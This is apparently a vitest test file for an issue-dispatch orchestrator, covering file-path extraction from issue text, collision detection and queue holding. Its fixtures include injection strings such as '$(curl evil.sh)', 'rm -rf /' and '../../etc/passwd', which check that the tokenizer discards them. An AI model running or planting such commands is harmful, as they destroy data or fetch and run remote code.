import path from 'node:path';
import { writeFileSync } from 'node:fs';
import { Writable } from 'node:stream';
import { describe, expect, it } from 'vitest';
import { filesNamed, issueTokens, safeToken } from '../src/core/issue-tokens.js';
import { useForgeProjects, json } from './support/forge-project.js';
import { waitFor } from './support/project.js';
import { dispatchFromQueue } from '../src/flows/batch/start-issues.js';
import { inspectProject } from '../src/flows/watch/inspect.js';
import { predictIssueFiles } from '../src/flows/batch/predict-files.js';
import { Output } from '../src/output.js';
import { collisionHold } from '../src/flows/batch/queue.js';

describe('predicting the files an issue touches', () => {
  it.each([
    ['paths with folders and extensions', 'Crash in src/flows/batch/queue.ts', 'see `README.md` and docs/guide.md.', ['src/flows/batch/queue.ts', 'README.md', 'docs/guide.md'], []],
    ['identifiers in backticks and camelCase', 'renderBrief drops the title', 'The `max_workers` check and `Config.load()` too', [], ['max_workers', 'renderBrief']],
    ['versions and abbreviations are not paths', 'Node 20.19.1 fails', 'e.g. when the value is 1.5', [], []],
    ['option-like and traversal tokens are dropped', 'x', 'run `--upload-pack` on ../../etc/passwd and -rf.sh', [], []],
    ['shell text stays out', 'a; rm -rf /', '$(curl evil.sh) `$HOME`', ['evil.sh'], []],
  ])('%s', (_what, title, body, paths, ids) => {
    const t = issueTokens(title, body);
    expect(t.paths).toEqual(paths);
    expect(t.identifiers.sort()).toEqual([...ids].sort());
    for (const tok of [...t.paths, ...t.identifiers]) expect(safeToken(tok)).toBe(true);
  });

  it.each([
    ['queue.ts', ['src/queue.ts', 'lib/queue.ts']],
    ['src/queue.ts', ['src/queue.ts']],
    ['ueue.ts', []],
  ])('filesNamed(%j)', (token, want) => {
    expect(filesNamed(token, ['src/queue.ts', 'lib/queue.ts', 'src/queue.test.ts'])).toEqual(want);
  });
});

describe('collisionHold', () => {
  const radar = { workers: [{ name: 'a', files: [{ path: 'src/x.ts', ranges: [], whole: false }] }, { name: 'b', files: [{ path: 'src/y.ts', ranges: [], whole: true }] }] };
  it.each([
    [undefined, undefined],
    [[], undefined],
    [['docs/z.md'], undefined],
    [['src/x.ts'], 'held: may collide with a (src/x.ts) (queue.avoidCollisions); starts when a is done'],
    [['src/x.ts', 'src/y.ts'], 'held: may collide with a (src/x.ts); b (src/y.ts) (queue.avoidCollisions); starts when a, b are done'],
  ])('%j', (predicted, want) => {
    expect(collisionHold(radar, predicted)).toBe(want);
  });
});

const make = useForgeProjects();

describe('queue.avoidCollisions', () => {
  it('holds an issue that names a file a live worker changes, says why, and dispatches it when that worker is done', { timeout: 180_000 }, async () => {
    const { tp, gh } = await make({
      files: { 'src/widget.ts': 'export function renderWidget() {\n  return 1;\n}\n', 'docs/intro.md': '# intro\n' },
      config: { queue: { avoidCollisions: true } },
    });
    const started = await tp.orch(['start', 'alpha', '--task', 'tune the widget', '--no-launch']);
    expect(started.code, started.stderr).toBe(0);
    writeFileSync(path.join(tp.worktrees, 'alpha', 'src', 'widget.ts'), 'export function renderWidget() {\n  return 2;\n}\n');
    gh.addIssue({ number: 5, title: 'renderWidget returns the wrong value', body: 'It is defined in `src/widget.ts`; --no-verify; $(rm -rf /)' });
    gh.addIssue({ number: 6, title: 'Typo in the intro', body: 'docs/intro.md says "teh"' });
    expect(await predictIssueFiles(tp.repo, { title: 'renderWidget returns the wrong value', body: 'It is defined in `src/widget.ts`' })).toEqual(['src/widget.ts']);

    const r = await tp.orch(['start-issues', '5', '6', '--json']);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stderr).toContain('#5 may collide with alpha (src/widget.ts)');
    const rows = json(r.stdout).rows;
    expect(rows[0]).toMatchObject({ issue: 5, status: 'queued', collisions: [{ worker: 'alpha', files: ['src/widget.ts'] }] });
    expect(rows[0].reason).toMatch(/^held: may collide with alpha \(src\/widget\.ts\) \(queue\.avoidCollisions\); starts when alpha is done$/);
    expect(rows[1]).toMatchObject({ issue: 6, status: 'dispatched' });

    const list = json((await tp.orch(['list', '--json'])).stdout);
    expect(list.queued).toEqual([expect.objectContaining({ name: rows[0].name, heldFor: rows[0].reason })]);

    const project = await tp.project();
    const sink = new Writable({ write: (_c, _e, cb) => cb() });
    const ctx = { cwd: tp.repo, configFile: undefined, json: false, verbose: false, env: process.env, out: new Output(sink, sink, true) };
    // Slots are free, but alpha still changes src/widget.ts.
    expect(await dispatchFromQueue(project, ctx)).toEqual([]);

    // alpha goes back to work (the stand-in commits a note and reports completion): done frees the file.
    const resumed = await tp.orch(['resume', 'alpha']);
    expect(resumed.code, resumed.stderr).toBe(0);
    await waitFor(async () => (await inspectProject(project, { capture: true, git: false, names: ['alpha'] })).workers[0]?.state.state === 'done' || undefined, 60_000, 'alpha done');
    expect(await dispatchFromQueue(project, ctx)).toEqual([rows[0].name]);
    expect(project.registry.getWorker(rows[0].name)?.issue).toBe(5);
  });
});
